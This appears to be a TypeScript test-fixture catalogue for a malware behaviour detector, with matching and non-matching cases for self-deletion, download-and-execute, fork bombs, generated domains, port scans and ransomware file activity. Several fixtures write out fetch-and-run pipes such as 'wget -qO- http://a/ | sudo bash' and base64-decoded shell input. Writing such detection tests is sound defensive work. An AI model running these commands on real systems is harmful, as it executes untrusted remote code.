import { call, dns, flow } from '../evidence.js';
import { does, runs, calls, each, type Cases } from './cases.js';

export const catalog: Readonly<Record<string, Cases>> = {
  deletes_itself: {
    hits: [
      {
        processes: [
          {
            command: 'sh /tmp/invoice.sh',
            summary: { file_deleted: ['/tmp/invoice.sh'] },
            calls: [call('unlinkat', ['AT_FDCWD', '/tmp/invoice.sh', '0'])],
          },
        ],
      },
      { processes: [{ name: 'bot', path: '/tmp/bot', summary: { file_deleted: ['/tmp/bot'] } }] },
    ],
    misses: [
      { processes: [{ command: 'sh /tmp/invoice.sh', summary: { file_deleted: ['/tmp/other.sh'] } }] },
      runs('rm /tmp/invoice.sh.bak'),
    ],
  },
  download_and_execute: {
    hits: [
      {
        processes: [
          { command: 'sh /tmp/invoice.sh' },
          { command: 'curl -o /tmp/p http://a.example/p', parent: 1, summary: { file_written: ['/tmp/p'] } },
          { name: 'p', path: '/tmp/p', parent: 1, summary: { file_executed: ['/tmp/p'] } },
        ],
      },
      {
        processes: [
          { command: 'wget -O /tmp/a http://x/', summary: { file_written: ['/tmp/a'] } },
          { command: 'mv /tmp/a /tmp/b', summary: { file_moved: [['/tmp/a', '/tmp/b']] } },
          { command: 'sh /tmp/b' },
        ],
      },
      {
        processes: [
          { command: 'wget -q http://x/a.sh', summary: { file_written: ['/tmp/a.sh'] } },
          { command: 'sh ./a.sh', summary: { file_opened: ['/etc/ld.so.cache', '/tmp/a.sh'] } },
        ],
      },
    ],
    misses: [
      {
        processes: [
          { command: 'curl -o /tmp/p http://a.example/p', summary: { file_written: ['/tmp/p'] } },
          { command: 'cat /tmp/p' },
        ],
      },
      { processes: [{ command: 'sh x', summary: { file_written: ['/tmp/p'], file_executed: ['/tmp/p'] } }] },
    ],
  },
  executes_written_file: {
    hits: [does({ file_written: ['/tmp/p'], file_executed: ['/tmp/p'] })],
    misses: [does({ file_written: ['/tmp/p'], file_executed: ['/usr/bin/cat'] })],
  },
  download_to_shell: {
    hits: [
      {
        processes: [
          { command: 'sh x' },
          { command: 'curl -s http://a/', parent: 1 },
          { command: 'bash', parent: 1 },
        ],
      },
      runs('sh -c wget -qO- http://a/ | sudo bash'),
      runs("bash -c 'curl -fsSL http://a/ | sh'"),
    ],
    misses: [
      {
        processes: [
          { command: 'sh x' },
          { command: 'curl -s http://a/', parent: 1 },
          { command: 'bash y.sh', parent: 1 },
        ],
      },
      {
        processes: [
          { command: 'sh x' },
          { command: 'curl http://a/', parent: 1, at: 0 },
          { command: 'sh', parent: 1, at: 30 },
        ],
      },
      runs('sh -c curl http://a/ | grep bash'),
    ],
  },
  decoded_to_shell: {
    hits: [
      { processes: [{ command: 'sh x' }, { command: 'base64 -d', parent: 1 }, { command: 'sh', parent: 1 }] },
      runs('bash -c echo aWQ= | base64 --decode | bash'),
    ],
    misses: [
      {
        processes: [
          { command: 'sh x' },
          { command: 'base64 /tmp/f', parent: 1 },
          { command: 'sh', parent: 1 },
        ],
      },
      runs('bash -c base64 -d | cat'),
    ],
  },
  fork_bomb: {
    hits: [
      {
        processes: each(60, (i) => ({
          calls: [call('clone', ['flags=SIGCHLD'], { time: 1_800_000_000 + i / 10 })],
        })),
      },
      calls(...each(1000, (i) => call('vfork', [], { time: 1_800_000_000 + i / 200 }))),
    ],
    misses: [
      calls(...each(400, (i) => call('vfork', [], { time: 1_800_000_000 + i / 100 }))),
      {
        processes: each(60, (i) => ({
          calls: [call('clone', ['flags=SIGCHLD'], { time: 1_800_000_000 + i * 2 })],
        })),
      },
      calls(...each(2000, () => call('clone', ['flags=CLONE_VM|CLONE_THREAD']))),
    ],
  },
  generated_domains: {
    hits: [
      {
        network: {
          dns: each(12, (i) =>
            dns(
              `${['qzxkvjwpfb', 'xkqjvzwbgf', 'wvzqkjxgpd'][i % 3] ?? ''}${String.fromCharCode(98 + i)}k.com`,
            ),
          ),
        },
      },
    ],
    misses: [
      { network: { dns: each(20, (i) => dns(`host${i}.weatherservice.com`)) } },
      {
        network: {
          dns: [
            'interesting',
            'management',
            'california',
            'restaurants',
            'development',
            'information',
            'entertainment',
            'international',
            'engineering',
            'photography',
            'university',
            'technology',
          ].map((name) => dns(`${name}.com`)),
        },
      },
      { network: { dns: each(9, (i) => dns(`qzxkvjwpfb${String.fromCharCode(98 + i)}k.com`)) } },
    ],
  },
  network_scan: {
    hits: [
      { network: { tcp: each(25, (i) => flow(`198.51.100.${i}`, 22)) } },
      does({ connects_ip: each(20, (i) => `203.0.113.${i}:23`) }),
    ],
    misses: [
      { network: { tcp: each(25, (i) => flow(`198.51.100.${i}`, 443)) } },
      { network: { tcp: each(25, (i) => flow('198.51.100.1', 1000 + i)) } },
    ],
  },
  adds_extension_to_many_files: {
    hits: [does({ file_moved: each(10, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.doc.locked`] as const) })],
    misses: [
      does({ file_moved: each(10, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.doc.bak`] as const) }),
      does({ file_moved: each(10, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.pdf`] as const) }),
      does({ file_moved: each(9, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.doc.locked`] as const) }),
    ],
  },
  ransomware_behaviour: {
    hits: [
      does({
        file_written: ['/home/a/README_DECRYPT.txt', ...each(3, (i) => `/home/a/${i}.doc.enc`)],
        file_deleted: each(3, (i) => `/home/a/${i}.doc`),
      }),
    ],
    misses: [
      does({ file_written: ['/home/a/README.txt'] }),
      does({
        file_written: each(5, (i) => `/home/a/${i}.doc.enc`),
        file_deleted: each(5, (i) => `/home/a/${i}.doc`),
      }),
    ],
  },
};
